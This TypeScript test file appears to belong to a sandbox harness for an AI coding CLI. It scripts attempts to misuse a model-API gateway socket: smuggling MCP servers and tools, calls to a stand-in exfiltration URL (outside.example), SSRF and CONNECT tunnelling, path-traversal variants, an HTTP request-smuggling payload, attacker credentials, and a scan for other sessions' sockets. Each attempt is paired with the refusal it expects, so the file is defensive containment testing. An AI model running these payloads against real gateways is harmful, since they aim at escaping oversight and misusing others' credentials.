import type { Attempt, Target } from '../attempt.ts';

const SOCKET = '/run/claude-hooks/model.sock';
const REQUEST = {
  model: 'claude-sonnet-4-5',
  max_tokens: 9,
  messages: [{ role: 'user', content: 'hi' }],
};
const BODY = JSON.stringify(REQUEST);

function ask(head: string, body = ''): string {
  const length = body === '' ? '' : `content-length: ${body.length}\n`;
  return `perl $LIB/http ${SOCKET} <<'END'\n${head}\n${length}connection: close\n\n${body}\nEND\n`;
}

/** As the CLI sends it, with something in it that the model's side would act on with our key. */
function smuggle(
  name: string,
  o: { body?: object; text?: string; path?: string; header?: string; shows: RegExp },
): Attempt {
  const path = o.path ?? '/v1/messages?beta=true';
  const header = o.header === undefined ? '' : `\n${o.header}`;
  const head = `POST ${path} HTTP/1.1\nhost: localhost\ncontent-type: application/json${header}`;
  return {
    name: `have the model’s side act: ${name}`,
    script: `${ask(head, o.text ?? JSON.stringify({ ...REQUEST, ...o.body }))} | tee /tmp/said; grep -q 'HTTP/1.1 200' /tmp/said && echo SUCCEEDED; true\n`,
    shows: o.shows,
    audit: { door: 'model', action: /^POST \/v1\/(messages|files)/ },
  };
}

const ADDRESS = 'https://outside.example/collect?word=heron-7';
const says = (...content: unknown[]) => ({ messages: [{ role: 'user', content }] });
const picture = (source: unknown) => ({ type: 'image', source });
const RESULT = {
  messages: [
    { role: 'user', content: 'hi' },
    { role: 'assistant', content: [{ type: 'tool_use', id: 'toolu_1', name: 'Bash', input: {} }] },
    {
      role: 'user',
      content: [
        { type: 'tool_result', tool_use_id: 'toolu_1', content: [picture({ type: 'url', url: ADDRESS })] },
      ],
    },
  ],
};

const SMUGGLED: Attempt[] = [
  smuggle('MCP servers', {
    body: { mcp_servers: [{ type: 'url', url: ADDRESS, name: 'x' }] },
    shows: /mcp_servers is not on the list/,
  }),
  smuggle('web search', {
    body: { tools: [{ type: 'web_search_20250305', name: 'web_search' }] },
    shows: /tools\[0\]\.type is \\"web_search_20250305/,
  }),
  smuggle('web fetch', {
    body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] },
    shows: /tools\[0\]\.type is \\"web_fetch_20250910/,
  }),
  smuggle('code execution', {
    body: { tools: [{ type: 'code_execution_20250825', name: 'code_execution' }] },
    shows: /tools\[0\]\.type is \\"code_execution/,
  }),
  smuggle('a document by address', {
    body: says({ type: 'document', source: { type: 'url', url: ADDRESS } }),
    shows: /source\.type is \\"url/,
  }),
  smuggle('a picture by address', {
    body: says(picture({ type: 'url', url: ADDRESS })),
    shows: /source\.type is \\"url/,
  }),
  smuggle('a picture by address in a result', {
    body: RESULT,
    shows: /content\[0\]\.content\[0\]\.source\.type/,
  }),
  smuggle('a picture by file', {
    body: says(picture({ type: 'file', file_id: 'file_1' })),
    shows: /source\.type is \\"file/,
  }),
  smuggle('skills in a container', {
    body: { container: { skills: [{ type: 'anthropic', skill_id: 'pdf' }] } },
    shows: /container is not on the list/,
  }),
  smuggle('a beta', {
    header: 'anthropic-beta: mcp-client-2025-11-20',
    shows: /Unexpected value\(s\) `mcp-client-2025-11-20`/,
  }),
  smuggle('a new field', { body: { agents: [{ url: ADDRESS }] }, shows: /agents is not on the list/ }),
  smuggle('a dearer model', {
    body: { model: 'claude-mythos-5' },
    shows: /may not use the model claude-mythos-5/,
  }),
  smuggle('MCP servers behind the same name again', {
    text: BODY.replace('}]}', `}],"messages":[],"mcp_servers":[],"mcp_servers":[{"url":"${ADDRESS}"}]}`),
    shows: /mcp_servers is not on the list/,
  }),
  smuggle('MCP servers in a compressed body', {
    text: 'as good as compressed',
    header: 'content-encoding: gzip',
    shows: /Only an uncompressed body passes/,
  }),
  smuggle('MCP servers in another character set', {
    text: 'as good as UTF-7',
    header: 'x-nothing: 1\ncontent-type: application/json; charset=utf-7',
    shows: /HTTP\/1\.1 (400|415) /,
  }),
];

const refused = (status: number) => new RegExp(`HTTP/1\\.1 ${status} `);

export const model = (at: Target): Attempt[] => [
  {
    name: 'list the models through the gateway',
    script: ask('GET /v1/models HTTP/1.1\nhost: localhost'),
    shows: refused(404),
    audit: { door: 'model', action: /^GET \/v1\/models$/ },
  },
  {
    name: 'upload a file through the gateway',
    script: ask('POST /v1/files HTTP/1.1\nhost: localhost', BODY),
    shows: refused(404),
    audit: { door: 'model', action: /^POST \/v1\/files$/ },
  },
  {
    name: 'use the gateway as a proxy, by an absolute address',
    script: ask(`POST http://127.0.0.1:${at.ports.bait}/v1/messages HTTP/1.1\nhost: localhost`, BODY),
    shows: refused(403),
    audit: { door: 'model', action: /^POST http:\/\/127/ },
  },
  {
    name: 'have the gateway ask another host',
    script: ask(`POST /v1/messages HTTP/1.1\nhost: 127.0.0.1.example.com:${at.ports.bait}`, BODY),
    shows: refused(403),
    audit: { door: 'model', action: /^POST \/v1\/messages$/ },
  },
  {
    name: 'open a tunnel through the gateway',
    script: ask(`CONNECT 127.0.0.1:${at.ports.bait} HTTP/1.1\nhost: localhost`),
    shows: refused(403),
    audit: { door: 'model', action: /^CONNECT / },
  },
  {
    name: 'upgrade a connection of the gateway',
    script: ask('GET /v1/messages HTTP/1.1\nhost: localhost\nupgrade: websocket\nconnection: upgrade'),
    shows: refused(403),
    audit: { door: 'model', action: /^GET \/v1\/messages$/ },
  },
  {
    name: 'another path behind dots, slashes and escapes',
    script: [
      '/v1/messages/../models',
      '//v1/messages',
      '/v1/messages%2f..%2fmodels',
      '/v1/messages?a=/v1/models',
    ]
      .map((path) => ask(`POST ${path} HTTP/1.1\nhost: localhost`, BODY))
      .join(''),
    shows: /(HTTP\/1\.1 404 [\s\S]*){4}/,
    audit: { door: 'model', action: /^POST \/v1\/messages\/\.\.\/models$/ },
  },
  {
    name: 'a second request hidden in the first',
    script: `perl $LIB/http ${SOCKET} <<'END'\nPOST /v1/messages HTTP/1.1\nhost: localhost\ncontent-length: 4\ntransfer-encoding: chunked\n\n0\n\nGET /v1/models HTTP/1.1\nhost: localhost\n\n\nEND\n`,
    shows: refused(400),
    audit: { door: 'model', action: /no HTTP/ },
  },
  ...SMUGGLED,
  {
    // That upstream got ours and not this is checked at the model, in suite.ts.
    name: 'choose the credential, or have it shown',
    script: ask(
      'POST /v1/messages HTTP/1.1\nhost: localhost\nx-api-key: sk-ant-of-the-attacker-XXXX\nauthorization: Bearer attacker-XXXX\nconnection: x-api-key\nx-forwarded-host: 127.0.0.1\nexpect: 100-continue\ntrailer: x-api-key',
      BODY,
    ),
    shows: /HTTP\/1\.1 (200|400) /,
  },
  {
    name: 'the socket of another dispatch',
    // In cc-socks the CLI has one of its own. With stat: a mounted socket stands in its folder as a plain file.
    script: `find / \\( -path /proc -o -path /sys -o -path /usr -o -name cc-socks \\) -prune -o -not -type d -print0 2>/dev/null | xargs -0 stat -c '%F %n' 2>/dev/null | sed -n 's/^socket //p' | tee /tmp/sockets; [ "$(cat /tmp/sockets)" = ${SOCKET} ] && echo 'only mine'; named=$(sed 1d /proc/net/unix | grep -o '[^ ]*[@/].*' | grep -v '/cc-socks/' | sort -u | wc -l); [ $named -le 1 ] || echo SUCCEEDED another socket`,
    shows: /^only mine$/m,
  },
];
